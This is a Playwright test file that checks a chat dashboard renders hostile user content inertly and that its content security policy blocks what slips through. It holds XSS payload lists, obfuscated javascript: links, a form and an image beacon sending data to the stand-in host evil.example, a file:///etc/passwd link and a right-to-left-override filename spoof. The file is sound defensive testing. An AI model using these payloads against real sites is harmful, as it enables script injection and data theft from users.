from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.dashboard.browser.conftest import Seen, open_thread
from tests.wire.http_call import Api

SCRIPTS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'><script>window.pwned = 1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<a href='javascript:window.pwned = 1'>click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "</div></li></ol></template><script>window.pwned = 1</script>",
    "<style>* { display: none }</style><form action='https://evil.example'><input name=key></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "```html\n</code></pre><script>window.pwned = 1</script>\n```",
    '`<img src=x onerror="window.pwned = 1">`',
]
LINKS = [
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](javascript&colon;window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:window.pwned=1)",
    "[click](file:///etc/passwd)",
    "[click](/dashboard/sign-out)",
    "[click](//evil.example/)",
    "<javascript:window.pwned=1>",
    "[ref]\n\n[ref]: javascript:window.pwned=1",
    '[click](https://example.com/" onmouseover="window.pwned=1)',
    '[click](https://example.com "title\\" onmouseover=\\"window.pwned=1")',
]
PICTURES = [
    "![x](javascript:window.pwned=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    '![x" onerror="window.pwned=1](https://evil.example/x.png" onerror="window.pwned=1)',
    "![<script>window.pwned=1</script>](https://evil.example/y.png)",
]


def show(page: Page, api: Api, *texts: str, title: str | None = None) -> None:
    """Open a thread in which somebody wrote this; it has happened when all of it is rendered."""
    turns = [{"role": "user", "content": text} for text in texts]
    thread = api.new_thread(messages=turns, title=title, metadata={"<b>": texts[0][:400]})["id"]
    open_thread(page, api, thread)
    expect(page.locator(".turn")).to_have_count(len(texts))
    expect(page.locator("[data-markdown]")).to_have_count(0)


def test_markup_is_shown_as_the_text_that_it_is(inside: Page, api: Api, seen: Seen) -> None:
    show(inside, api, *SCRIPTS, title=SCRIPTS[0])
    for text in SCRIPTS[:9]:
        expect(inside.locator(".turn .text", has_text=text[:30])).not_to_have_count(0)
    found = inside.evaluate(
        """() => document.querySelectorAll(
            ".turns :is(script, img, iframe, style, form, input, meta, base, math, [onload])"
        ).length"""
    )
    assert found == 0
    expect(inside.get_by_role("heading", level=1)).to_have_text(SCRIPTS[0])
    assert seen.foreign == []


def test_links_lead_to_the_web_and_to_mail_and_nowhere_else(
    inside: Page, api: Api, seen: Seen
) -> None:
    show(inside, api, *LINKS, "[fine](https://example.com) [mail](mailto:a@example.com)")
    links = inside.evaluate(
        """() => [...document.querySelectorAll(".turns a")].map((each) => [each.protocol, each.host,
            each.getAttributeNames().filter((name) => name.startsWith("on")).length])"""
    )
    assert ["https:", "example.com", 0] in links
    assert ["mailto:", "", 0] in links
    assert {tuple(link) for link in links} <= {("https:", "example.com", 0), ("mailto:", "", 0)}
    for link in inside.locator(".turns a[href^='https']").all():
        link.hover()
    assert seen.foreign == []


def test_pictures_are_never_loaded_by_themselves(inside: Page, api: Api, seen: Seen) -> None:
    show(inside, api, *PICTURES)
    links = inside.locator(".turns a.picture").all()
    assert all(
        str(link.get_attribute("href")).startswith("https://evil.example/") for link in links
    )
    assert seen.foreign == []


def test_the_policy_stops_what_would_get_past_everything_else(
    inside: Page, api: Api, seen: Seen
) -> None:
    seen.expected += ["Content Security Policy", "TrustedHTML", "Trusted Type", "violates"]
    assert inside.evaluate(
        """() => { try { document.body.innerHTML = "<img src=x onerror=window.pwned=1>" }
            catch (error) { return error.name } }"""
    ) == "TypeError"  # fmt: skip
    blocked = inside.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", (event) =>
                resolve(event.effectiveDirective), { once: true });
            const image = document.createElement("img");
            image.src = "https://evil.example/leak";
            document.body.append(image);
        })"""
    )
    assert blocked == "img-src"
    assert seen.foreign == []


@pytest.mark.parametrize("name", ["title", "turn"])
def test_text_that_turns_around_is_named(inside: Page, api: Api, name: str) -> None:
    text = "invoice\u202efdp.exe"
    show(inside, api, text, title=text)
    place = inside.get_by_role("heading", level=1) if name == "title" else inside.locator(".text")
    expect(place).to_have_text("invoice\u27e6U+202E\u27e7fdp.exe")


def test_a_line_of_a_quarter_million_characters_is_shown_in_part_and_then_whole(
    inside: Page, api: Api
) -> None:
    show(inside, api, "x" * 256_000, "short")
    expect(inside.get_by_text("252,000 characters more")).to_be_visible()
    assert inside.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    inside.get_by_role("button", name="Show all").click()
    expect(inside.get_by_text("252,000 characters more")).to_have_count(0)
    assert len(inside.locator(".plain").inner_text()) == 256_000
    assert inside.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_markdown_that_is_slow_to_read_keeps_nobody_waiting(inside: Page, api: Api) -> None:
    nasty = ["[" * 15_000, "![" * 7_500, "*a_ " * 3_900, ">" * 50 + "\n" + "a\n" * 7_000]
    show(inside, api, *nasty, "the end")
    expect(inside.get_by_text("the end")).to_be_in_viewport()
